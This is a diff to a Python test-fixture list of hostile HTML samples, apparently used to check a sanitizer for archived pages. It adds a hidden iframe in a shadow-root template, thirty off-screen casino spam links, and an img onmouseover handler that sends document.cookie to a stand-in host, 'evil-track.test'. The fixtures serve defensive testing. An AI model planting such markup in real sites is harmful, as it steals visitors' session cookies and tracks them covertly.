@@ -466,6 +466,14 @@ _DRESSED = [
     # markup the browser reads otherwise: a comment ended early, a '>' in a quoted value
     '<!--><script src="https://evil-track.test/x.js"></script>-->',
     '<img title=">" src="//evil-track.test/p.gif">',
+    # the saved toolbar's template, the chrome's own names or a 2011-2016 handler around it
+    '<template shadowrootmode="open"><iframe src="http://evil-track.test/in.cgi?2" width="1" '
+    'height="1" style="visibility:hidden"></iframe></template>',
+    '<div id="wm-ipp" class="c" style="position:absolute;left:-9999px">' + "".join(
+        f'<a href="https://casino-bonus{i}.test/">online casino bonus {i}</a> ' for i in range(30)
+    ) + "</div>",
+    '<img src="/static/images/toolbar/wm_tb_close.png" onmouseover="showTrackers(\'inline\');'
+    'fetch(\'//evil-track.test/\'+document.cookie)">',
 ]
 
 
